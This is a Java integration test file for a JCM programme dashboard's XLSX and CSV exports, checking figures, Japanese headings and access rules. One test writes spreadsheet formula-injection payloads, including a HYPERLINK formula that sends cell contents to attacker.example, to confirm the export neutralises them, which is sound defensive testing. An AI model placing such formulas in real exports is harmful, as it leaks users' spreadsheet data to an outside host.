package org.jcmflow.dashboard;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.within;
import static org.jcmflow.testsupport.DemoUser.ADMIN;
import static org.jcmflow.testsupport.DemoUser.JOINT_COMMITTEE;
import static org.jcmflow.testsupport.DemoUser.PROGRAM_MANAGER;
import static org.jcmflow.testsupport.DemoUser.PROPONENT;
import static org.jcmflow.testsupport.DemoUser.VERIFIER;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvSchema;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.jcmflow.testsupport.ApiClient;
import org.jcmflow.testsupport.ApplicationTest;
import org.jcmflow.testsupport.CaseDriver;
import org.junit.jupiter.api.Test;

import org.springframework.boot.test.web.server.LocalServerPort;

/**
 * The dashboard's spreadsheet holds the figures of GET /api/dashboard for the same filter. On cases in Kenya in
 * FY2014, and FY2014's budget, which no other test uses: the application tests share one database.
 */
@ApplicationTest
class DashboardExportIT {

    private static final String FILTER = "?fiscalYear=2014&partnerCountry=KE";

    @LocalServerPort
    int port;

    final CaseDriver driver;

    DashboardExportIT(CaseDriver driver) {
        this.driver = driver;
    }

    @Test
    void theSpreadsheetHoldsTheFiguresOfTheDashboard() throws IOException {
        kenyanCases();
        ApiClient manager = driver.as(PROGRAM_MANAGER);
        assertThat(manager.put("/api/budget/2014", "{\"budgetMillionJpy\": 2400, \"returnedMillionJpy\": 150.5}").status())
                .isEqualTo(204);

        JsonNode dashboard = manager.get("/api/dashboard" + FILTER).json();
        HttpResponse<byte[]> download = manager.download("/api/reports/dashboard.xlsx" + FILTER);

        assertThat(download.statusCode()).isEqualTo(200);
        assertThat(download.headers().firstValue("Content-Type").orElseThrow()).isEqualTo(DashboardWorkbook.CONTENT_TYPE);
        assertThat(download.headers().firstValue("Content-Disposition").orElseThrow())
                .contains("attachment", "jcm-dashboard-FY2014-KE.xlsx");
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(download.body()))) {
            assertThat(sheetNames(workbook)).containsExactly("Summary", "Cases by stage", "Cases by partner country",
                    "Outcome indicator", "Activity indicator", "Feasibility-study outcomes", "GHG reductions",
                    "Budget and execution", "Time in stage (days)");

            Map<String, Row> summary = rowsByFirstCell(workbook.getSheet("Summary"));
            assertThat(summary.get("Fiscal year").getCell(1).getStringCellValue()).isEqualTo("FY2014");
            assertThat(summary.get("Partner country").getCell(1).getStringCellValue()).isEqualTo("KE");
            assertThat(number(summary.get("Overdue tasks"), 1)).isEqualTo(dashboard.path("overdueTasks").asDouble());
            JsonNode approved = dashboard.path("indicators").path("methodologiesApproved");
            assertThat(number(summary.get("Methodologies approved"), 1)).isEqualTo(approved.path("actual").asDouble())
                    .isEqualTo(1);
            assertThat(number(summary.get("Methodologies approved, cumulative target"), 1))
                    .isEqualTo(approved.path("target").asDouble());

            Map<String, Row> stages = rowsByCell(workbook.getSheet("Cases by stage"), 1);
            dashboard.path("pipeline").path("byStage").fields().forEachRemaining(stage ->
                    assertThat(number(stages.get(stage.getKey()), 2)).as(stage.getKey()).isEqualTo(stage.getValue().asDouble()));
            assertThat(stages.get("FOLLOW_UP").getCell(0).getStringCellValue()).isEqualTo("Follow-up");

            Row kenya = workbook.getSheet("Cases by partner country").getRow(1);
            JsonNode country = dashboard.path("pipeline").path("byPartnerCountry").get(0);
            assertThat(kenya.getCell(0).getStringCellValue()).isEqualTo("KE").isEqualTo(country.path("partnerCountry").asText());
            assertThat(kenya.getCell(2).getStringCellValue()).isEqualTo("ケニア");
            assertThat(number(kenya, 3)).isEqualTo(country.path("cases").asDouble()).isEqualTo(4);

            assertRowsMatch(workbook.getSheet("Outcome indicator"),
                    dashboard.path("indicators").path("methodologiesApprovedByFiscalYear"),
                    "fiscalYear", "approved", "cumulative", "target");
            assertRowsMatch(workbook.getSheet("Activity indicator"),
                    dashboard.path("indicators").path("studiesAndDemonstrations"),
                    "fiscalYear", "feasibilityStudies", "demonstrations", "total", "target");

            Map<String, Row> conversion = rowsByFirstCell(workbook.getSheet("Feasibility-study outcomes"));
            JsonNode studies = dashboard.path("feasibilityStudyConversion");
            assertThat(number(conversion.get("Studies completed"), 1)).isEqualTo(studies.path("studiesCompleted").asDouble())
                    .isEqualTo(3);
            assertShare(conversion, "To a NEDO next stage", studies.path("toNedoNextStage"));
            assertShare(conversion, "To a JCM project", studies.path("toJcmProject"));
            assertShare(conversion, "To any next stage", studies.path("toAnyNextStage"));

            Map<String, Row> reductions = rowsByFirstCell(workbook.getSheet("GHG reductions"));
            JsonNode reduced = dashboard.path("reductions");
            assertThat(number(reductions.get("Estimated for the demonstrations (t-CO2/year)"), 1))
                    .isEqualTo(reduced.path("estimatedTco2PerYearOfDemonstrations").asDouble()).isPositive();
            assertThat(number(reductions.get("At the end of the demonstrations, from the final reports (t-CO2/year)"), 1))
                    .isEqualTo(reduced.path("atEndOfDemonstrationsTco2PerYear").asDouble());
            assertThat(number(reductions.get("Verified in MRV (t-CO2)"), 1))
                    .isEqualTo(reduced.path("verifiedTco2").asDouble()).isEqualTo(1180.0);
            // the survey's follow-up report is no demonstration's: after the demonstrations counts those only
            assertThat(number(reductions.get("Reported after the demonstrations, five-year follow-up, cumulative (t-CO2)"), 1))
                    .isEqualTo(reduced.path("followUpCumulativeTco2").asDouble()).isZero();

            Row budget = workbook.getSheet("Budget and execution").getRow(1);
            JsonNode budgetYear = dashboard.path("budget").get(0);
            assertThat(dashboard.path("budget")).hasSize(1);
            assertThat(number(budget, 0)).isEqualTo(budgetYear.path("fiscalYear").asDouble()).isEqualTo(2014);
            assertThat(number(budget, 1)).isEqualTo(budgetYear.path("budgetMillionJpy").asDouble()).isEqualTo(2400);
            assertThat(number(budget, 2)).isEqualTo(budgetYear.path("returnedMillionJpy").asDouble()).isEqualTo(150.5);
            assertThat(number(budget, 3)).isEqualTo(2249.5);
            assertThat(number(budget, 4)).isEqualTo(budgetYear.path("executedMillionJpy").asDouble());
            assertThat(number(budget, 5)).isCloseTo(budgetYear.path("executedMillionJpy").asDouble() / 2249.5, within(0.0001));

            // open periods grow while the test runs: the two reads are a moment apart
            Map<String, Row> timed = rowsByCell(workbook.getSheet("Time in stage (days)"), 1);
            assertThat(timed.keySet()).containsExactlyElementsOf(dashboard.path("timeInStage").findValuesAsText("stage"));
            for (JsonNode stage : dashboard.path("timeInStage")) {
                Row row = timed.get(stage.path("stage").asText());
                assertThat(number(row, 2)).isEqualTo(stage.path("periods").asDouble());
                assertThat(number(row, 3)).isCloseTo(stage.path("medianDays").asDouble(), within(0.02));
                assertThat(number(row, 4)).isCloseTo(stage.path("p90Days").asDouble(), within(0.02));
            }
        }
    }

    @Test
    void textThatASpreadsheetWouldRunIsExportedAsTextNotAFormula() throws IOException {
        Map<String, Object> proposal = CaseDriver.newCase("=HYPERLINK(\"http://attacker.example/?\"&A1,\"report\")");
        proposal.put("technology", "@SUM(1+1)");
        String caseId = driver.openCase(PROPONENT, proposal);

        HttpResponse<byte[]> export = driver.as(PROGRAM_MANAGER).download("/api/reports/cases.csv");
        assertThat(export.statusCode()).isEqualTo(200);
        String csv = new String(export.body(), StandardCharsets.UTF_8).substring(1);
        Map<String, String> row;
        try (MappingIterator<Map<String, String>> rows = new CsvMapper().readerForMapOf(String.class)
                .with(CsvSchema.emptySchema().withHeader()).readValues(csv)) {
            row = rows.readAll().stream().filter(found -> found.get("id").equals(caseId)).findFirst().orElseThrow();
        }
        assertThat(row.get("title")).isEqualTo("'=HYPERLINK(\"http://attacker.example/?\"&A1,\"report\")");
        assertThat(row.get("technology")).isEqualTo("'@SUM(1+1)");
        // numbers stay numbers, and text that runs nothing is as it was
        assertThat(row.get("estimatedReductionTco2PerYear")).isEqualTo("1250.5");
        assertThat(row.get("partnerCountry")).isEqualTo("VN");

        // the spreadsheet writes text cells only: a filter that looks like a formula is shown, never run
        String formula = "=HYPERLINK(\"http://attacker.example/\",\"x\")";
        HttpResponse<byte[]> download = driver.as(PROGRAM_MANAGER).download("/api/reports/dashboard.xlsx?partnerCountry="
                + URLEncoder.encode(formula, StandardCharsets.UTF_8));
        assertThat(download.statusCode()).isEqualTo(200);
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(download.body()))) {
            for (Sheet sheet : workbook) {
                for (Row sheetRow : sheet) {
                    for (Cell cell : sheetRow) {
                        assertThat(cell.getCellType()).as(sheet.getSheetName() + " " + cell.getAddress())
                                .isIn(CellType.STRING, CellType.NUMERIC, CellType.BLANK);
                    }
                }
            }
            Cell filter = rowsByFirstCell(workbook.getSheet("Summary")).get("Partner country").getCell(1);
            assertThat(filter.getStringCellValue()).isEqualTo(formula);
        }
    }

    @Test
    void theSpreadsheetIsHeadedInTheLanguageAsked() throws IOException {
        HttpResponse<byte[]> download = driver.as(ADMIN).download("/api/reports/dashboard.xlsx?lang=ja&partnerCountry=KE");
        assertThat(download.statusCode()).isEqualTo(200);
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(download.body()))) {
            assertThat(sheetNames(workbook)).startsWith("概要", "段階別の案件数", "相手国別の案件数");
            assertThat(workbook.getSheet("段階別の案件数").getRow(0).getCell(0).getStringCellValue()).isEqualTo("段階");
            assertThat(workbook.getSheet("段階別の案件数").getRow(1).getCell(0).getStringCellValue())
                    .isEqualTo("実現可能性調査");
        }
    }

    @Test
    void theSpreadsheetIsForTheProgrammeOffice() {
        ApiClient.Response refused = driver.as(PROPONENT).get("/api/reports/dashboard.xlsx");
        assertThat(refused.status()).isEqualTo(403);
        assertThat(refused.contentType()).startsWith("application/problem+json");
        assertThat(ApiClient.anonymous(port).get("/api/reports/dashboard.xlsx").status()).isEqualTo(401);
        assertThat(driver.as(PROGRAM_MANAGER).get("/api/reports/dashboard.xlsx?fiscalYear=last").status())
                .isEqualTo(400);
    }

    /**
     * Four cases: one through an MRV application survey to an approved methodology, verified credits and an accepted
     * follow-up report; one through the stage gate into its demonstration; one rejected at screening; one
     * transferred to the Ministry of the Environment's subsidy.
     */
    private void kenyanCases() {
        String surveyed = studiedKenyanCase("MRV for installed inverter air-conditioners");
        driver.complete(surveyed, "Task_ReviewFeasibilityReport", PROGRAM_MANAGER, "studyOutcome", "MRV_APPLICATION_SURVEY");
        driver.complete(surveyed, "Task_SubmitMrvApplicationSurvey", PROPONENT);
        driver.complete(surveyed, "Task_ReviewMrvApplicationSurvey", PROGRAM_MANAGER);
        driver.proposeMethodology(surveyed, PROPONENT);
        driver.registerProject(surveyed, PROPONENT, 1);
        driver.complete(surveyed, "Task_SubmitMonitoringReport", PROPONENT);
        driver.complete(surveyed, "Task_VerifyMonitoringReport", VERIFIER);
        driver.issueCredits(surveyed, PROPONENT);
        driver.complete(surveyed, "Task_SubmitDisseminationReport", PROPONENT);
        driver.complete(surveyed, "Task_ReviewDisseminationReport", PROGRAM_MANAGER);

        String demonstrated = studiedKenyanCase("Geothermal-powered cold storage");
        driver.complete(demonstrated, "Task_ReviewFeasibilityReport", PROGRAM_MANAGER);
        driver.complete(demonstrated, "Task_SubmitSurveyResults", PROPONENT);
        driver.complete(demonstrated, "Task_ReviewSurveyResults", PROGRAM_MANAGER);
        driver.evaluateAtStageGate(demonstrated);
        driver.complete(demonstrated, "Task_ConfirmStageGateDecision", PROGRAM_MANAGER);
        driver.complete(demonstrated, "Task_NegotiateMou", PROGRAM_MANAGER);
        driver.complete(demonstrated, "Task_RecordMouSignature", PROGRAM_MANAGER);
        driver.complete(demonstrated, "Task_SubmitImplementationDocument", PROPONENT);
        assertThat(driver.stage(demonstrated)).isEqualTo("DEMONSTRATION");
        // the activity indicator counts the work under contract, in each fiscal year it runs
        Map<String, Object> contract = new LinkedHashMap<>();
        contract.put("contractNumber", "KE-2014-DEMO");
        contract.put("caseId", demonstrated);
        contract.put("kind", "DEMONSTRATION");
        contract.put("signedOn", "2014-06-20");
        contract.put("startsOn", "2014-07-01");
        contract.put("endsOn", "2016-03-31");
        contract.put("amountMillionJpy", 900);
        ApiClient.Response signed = driver.as(PROGRAM_MANAGER).post("/api/contracts", contract);
        assertThat(signed.status()).as(signed.text()).isEqualTo(201);

        String rejected = kenyanCase("Rejected at screening");
        driver.complete(rejected, "Task_ScreenProposal", PROGRAM_MANAGER, "screeningDecision", "REJECT");

        String subsidised = studiedKenyanCase("Efficient boilers, to the MOE subsidy");
        driver.complete(subsidised, "Task_ReviewFeasibilityReport", PROGRAM_MANAGER,
                "studyOutcome", "TRANSFER", "transferScheme", "MOE_SUBSIDY");
    }

    private String kenyanCase(String title) {
        return driver.openCase(PROPONENT, title, "KE", 2014);
    }

    private String studiedKenyanCase(String title) {
        return driver.openStudiedCase(PROPONENT, title, "KE", 2014);
    }

    private static void assertShare(Map<String, Row> rows, String labelStart, JsonNode share) {
        Row row = rows.entrySet().stream().filter(entry -> entry.getKey().startsWith(labelStart)).findFirst()
                .orElseThrow(() -> new AssertionError("No row " + labelStart + " in " + rows.keySet())).getValue();
        assertThat(number(row, 1)).as(labelStart).isEqualTo(share.path("count").asDouble());
        assertThat(number(row, 2)).as(labelStart).isEqualTo(share.path("share").asDouble());
    }

    /** Each row under the header holds one element of the JSON array, its fields in the given order. */
    private static void assertRowsMatch(Sheet sheet, JsonNode array, String... fields) {
        assertThat(array).as(sheet.getSheetName()).isNotEmpty();
        assertThat(sheet.getLastRowNum()).as(sheet.getSheetName()).isEqualTo(array.size());
        for (int index = 0; index < array.size(); index++) {
            Row row = sheet.getRow(index + 1);
            for (int column = 0; column < fields.length; column++) {
                assertThat(number(row, column)).as("%s row %d %s", sheet.getSheetName(), index + 1, fields[column])
                        .isEqualTo(array.get(index).path(fields[column]).asDouble());
            }
        }
    }

    private static List<String> sheetNames(XSSFWorkbook workbook) {
        List<String> names = new ArrayList<>();
        workbook.forEach(sheet -> names.add(sheet.getSheetName()));
        return names;
    }

    private static Map<String, Row> rowsByFirstCell(Sheet sheet) {
        return rowsByCell(sheet, 0);
    }

    private static Map<String, Row> rowsByCell(Sheet sheet, int column) {
        Map<String, Row> rows = new LinkedHashMap<>();
        for (Row row : sheet) {
            if (row.getRowNum() > 0) {
                rows.put(row.getCell(column).getStringCellValue(), row);
            }
        }
        return rows;
    }

    private static double number(Row row, int column) {
        Cell cell = row.getCell(column);
        assertThat(cell).as("cell %d of row %d", column, row.getRowNum()).isNotNull();
        assertThat(cell.getCellType()).isEqualTo(CellType.NUMERIC);
        return cell.getNumericCellValue();
    }
}
